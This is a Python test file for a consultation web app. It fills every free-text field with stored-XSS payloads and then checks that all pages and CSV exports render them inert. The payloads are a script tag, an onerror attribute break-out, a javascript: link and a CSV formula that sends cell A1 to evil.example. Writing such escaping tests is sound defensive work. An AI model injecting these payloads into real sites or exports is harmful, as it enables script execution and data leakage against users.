"""Stored XSS: scripts, attribute break-outs, javascript: addresses and spreadsheet formulas typed into
every free-text field are shown inert on every page, staff and public, and in every CSV export.

Every GET route of the URL map is visited (routes added later included), signed in with every role and
anonymously, with real ids, after the payloads were stored in the fields people and staff fill in."""
import csv
import io
import re

import pytest
from sqlalchemy import select

from consult.extensions import db
from consult.models import (
    ROLES,
    Answer,
    Code,
    Comment,
    Excerpt,
    Forum,
    ForumNote,
    Participant,
    PrivacyIncident,
    Question,
    Questionnaire,
    Submission,
    SubmissionAttachment,
    SubmissionLink,
    SubmissionText,
    TopicMemo,
)
from tests.conftest import STAFF_PASSWORD, submit_form
from tests.factories import consultation_of, topic_of
from tests.privacy_data import everything_of, routes_with_urls

SCRIPT = "<script>alert(1)</script>"
BREAKOUT = '"><img src=x onerror=alert(1)>'
JAVASCRIPT = "javascript:alert(1)"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
TEXT = f"{SCRIPT} {BREAKOUT} {FORMULA}"

LIVE = [
    re.compile(r"<script>alert\(1\)", re.I),
    re.compile(r"<img src=x onerror", re.I),
    re.compile(r"""(href|src|action|formaction|hx-get|hx-post)\s*=\s*["']?\s*javascript:""", re.I),
]


@pytest.fixture
def poisoned(app, demo, uploads_dir):
    """Alice's participation with a payload in every free-text field, staff-entered ones included."""
    with app.test_request_context():
        values, tokens = everything_of(demo)
        consultation = consultation_of(demo)
        alice = db.session.scalar(select(Participant).where(Participant.email.like("alice%")))
        alice.name, alice.organisation = SCRIPT, BREAKOUT
        for answer in db.session.scalars(select(Answer)):
            answer.value = TEXT
        submission = db.session.get(Submission, values["submission_id"])
        submission.general_text = TEXT
        submission.intake_note = TEXT
        submission.texts.append(SubmissionText(topic_id=values["topic_id"], text=TEXT))
        submission.links.append(SubmissionLink(position=0, url=JAVASCRIPT, title=BREAKOUT))
        for attachment in db.session.scalars(select(SubmissionAttachment)):
            attachment.filename = f"{BREAKOUT}.pdf"
        for excerpt in db.session.scalars(select(Excerpt)):
            excerpt.text, excerpt.locator = TEXT, BREAKOUT[:90]
        for note in db.session.scalars(select(ForumNote)):
            note.body = TEXT
        for forum in db.session.scalars(select(Forum)):
            forum.title_fr = forum.title_en = BREAKOUT
            forum.description_fr = forum.description_en = TEXT
            forum.meeting_link = JAVASCRIPT
            forum.recording_notice_fr = forum.recording_notice_en = TEXT
        for questionnaire in db.session.scalars(select(Questionnaire)):
            questionnaire.title_fr = questionnaire.title_en = BREAKOUT
            questionnaire.intro_fr = questionnaire.intro_en = TEXT
        question = db.session.get(Question, values["question_id"])
        question.label_fr = question.label_en = TEXT
        question.help_fr = question.help_en = TEXT
        topic = topic_of(consultation, "1.1")
        topic.title_fr = topic.title_en = BREAKOUT
        topic.summary_fr = topic.summary_en = TEXT
        db.session.add(TopicMemo(topic_id=topic.id, body_fr=TEXT, body_en=TEXT))
        for category in consultation.categories:
            category.name_fr = category.name_en = BREAKOUT
        for comment in db.session.scalars(select(Comment)):
            comment.text = TEXT
            comment.visibility, comment.visibility_reason = "flagged", TEXT
        db.session.add(Code(consultation_id=consultation.id, kind="other", key="XSS", label_fr=BREAKOUT,
                            label_en=SCRIPT, description_fr=TEXT, description_en=TEXT))
        for incident in db.session.scalars(select(PrivacyIncident)):
            incident.description = incident.measures_taken = incident.information_concerned = TEXT
        consultation.privacy_notice_fr = consultation.privacy_notice_en = TEXT
        db.session.commit()
        return values, tokens


def signed_in(app, make_staff):
    client = app.test_client()
    make_staff("all-roles@example.org", list(ROLES))
    assert submit_form(client, "/staff/login", {"email": "all-roles@example.org",
                                                "password": STAFF_PASSWORD}).status_code == 303
    return client


def live_payloads(text: str) -> list[str]:
    return [pattern.pattern for pattern in LIVE if pattern.search(text)]


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: starting with = + - @ (or a tab or carriage return before them)."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if "HYPERLINK" in cell and cell.lstrip("\t\r ")[:1] in ("=", "+", "-", "@")]


def test_payloads_are_inert_on_every_page_and_export(app, client, make_staff, poisoned):
    values, tokens = poisoned
    staff = signed_in(app, make_staff)
    visited, seen_payload, csv_checked = 0, 0, 0
    problems = []
    for rule, url in routes_with_urls(app, values, tokens):
        if "GET" not in rule.methods or rule.endpoint == "static":
            continue
        for who in (staff, client):
            response = who.get(url)
            if response.status_code != 200:
                continue
            visited += 1
            kind = response.mimetype
            if kind in ("text/html", "text/plain", "application/json") or kind.endswith("+xml"):
                body = response.get_data(as_text=True)
                if "alert(1)" in body:
                    seen_payload += 1
                found = live_payloads(body) if kind == "text/html" else []
                if found:
                    problems.append((url, found))
            elif kind == "text/csv":
                csv_checked += 1
                body = response.get_data().decode("utf-8-sig")
                if formula_cells(body):
                    problems.append((url, formula_cells(body)[:3]))
    assert not problems, f"live payloads: {problems}"
    assert visited > 40 and seen_payload > 10, "the pages that show the fields were visited"
    assert csv_checked or not any(rule.endpoint.startswith("exports.") for rule in app.url_map.iter_rules())


def test_the_staff_pages_that_show_people_and_their_words_escape_them(app, make_staff, poisoned):
    values, _tokens = poisoned
    staff = signed_in(app, make_staff)
    slug = values["slug"]
    pages = [f"/staff/consultations/{slug}/submissions/{values['submission_id']}",
             f"/staff/consultations/{slug}/forums/{values['forum_id']}/notes"]
    pages = [page for page in pages if staff.get(page).status_code == 200]
    assert pages
    for page in pages:
        html = staff.get(page).get_data(as_text=True)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html, page
        assert not live_payloads(html), page


def test_a_javascript_address_is_never_a_link(app, make_staff, poisoned):
    values, _tokens = poisoned
    staff = signed_in(app, make_staff)
    html = staff.get(f"/staff/consultations/{values['slug']}/submissions/{values['submission_id']}").get_data(
        as_text=True)
    assert JAVASCRIPT in html, "the address is shown, as text"
    assert not re.search(r'href="\s*javascript:', html, re.I)
